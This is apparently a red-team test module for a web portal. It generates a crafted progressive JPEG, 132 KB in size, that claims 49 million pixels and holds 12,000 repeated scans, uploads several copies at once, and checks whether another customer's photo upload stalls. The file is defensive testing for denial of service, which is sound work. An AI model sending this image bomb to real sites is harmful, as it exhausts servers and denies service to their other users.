"""An attack by photos that are small to send and take minutes to decode."""

import threading
import time
from base64 import b64decode

from portal.redteam.browser import Browser, Page
from portal.redteam.target import Broken, Site, Untested

# Eight by eight grey pixels in a progressive JPEG of six scans.
SMALL = b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1td"
    "hbWGkJ6jq62rZ4C8ybqmx5moq6T/wgALCAAIAAgBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAABP/aAAgBAQAAAAFX/8QA"
    "FBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABBQJ//8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQAGPwJ//8QAFBAB"
    "AAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPyF//9oACAEBAAAAEP8A/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQAB"
    "PxB//9k="
)
START_OF_FRAME, START_OF_SCAN, END = b"\xff\xc2", b"\xff\xda", b"\xff\xd9"
SIDE, SCANS, BOMBS = 7000, 12_000, 3
SOON = 5  # seconds in which another customer's photo must have arrived
PHOTOS, PAUSE = 5, 0.3  # of the other customer, and the seconds between them
ADD = {"photos": "add"}


def bomb() -> bytes:
    """A JPEG of 132 KB that claims 49 million pixels and has 12,000 scans."""
    size = SMALL.index(START_OF_FRAME) + 5
    large = SMALL[:size] + SIDE.to_bytes(2) * 2 + SMALL[size + 4 :]
    last, end = large.rindex(START_OF_SCAN), large.rindex(END)
    return large[:end] + large[last:end] * SCANS + large[end:]


def photo_bombs(site: Site) -> str:
    """Send photos that keep a decoder busy for minutes, and see whether others still get theirs."""
    attacker, theirs, order = site.with_draft()
    if 'name="photos-0"' not in attacker.get(theirs).text:
        return "no page takes photos"
    customer, ours, _ = site.with_draft(without=order)
    bombs = [("photos-0", bomb())] * BOMBS
    answers: list[Page | OSError] = []
    attack = threading.Thread(target=lambda: answers.append(_sent(attacker, theirs, bombs)))
    attack.start()
    began = time.monotonic()
    page, took = _slowest(customer, ours, attack)
    attack.join()
    return _judged(page, took, answers[0], time.monotonic() - began)


def _slowest(
    customer: Browser, path: str, attack: threading.Thread
) -> tuple[Page | OSError, float]:
    """The photo of another customer that took longest while the attack went on."""
    seen: list[tuple[Page | OSError, float]] = []
    for _ in range(PHOTOS):
        began = time.monotonic()
        page = _sent(customer, path, [("photos-0", SMALL)])
        seen.append((page, time.monotonic() - began))
        attack.join(PAUSE)
    return max(seen, key=lambda photo: photo[1])


def _sent(visitor: Browser, path: str, photos: list[tuple[str, bytes]]) -> Page | OSError:
    try:
        return visitor.post(path, ADD, files=photos)
    except OSError as error:
        return error


def _judged(page: Page | OSError, took: float, answer: Page | OSError, all_took: float) -> str:
    if isinstance(answer, OSError):
        raise Broken(f"{BOMBS} photos of {len(bomb()):,} bytes keep the portal busy for longer")
    if 429 in {answer.status, getattr(page, "status", 0)}:
        raise Untested("a limit refuses photos (429)")
    if isinstance(page, OSError) or "/photo/" not in page.text:
        raise Broken("another customer's photo is not taken while they are decoded")
    if took > SOON:
        raise Broken(f"another customer's photo waits {took:.0f} seconds for them")
    return f"{BOMBS} photos of {SCANS:,} scans: {all_took:.1f} s, another's photo {took:.1f} s"
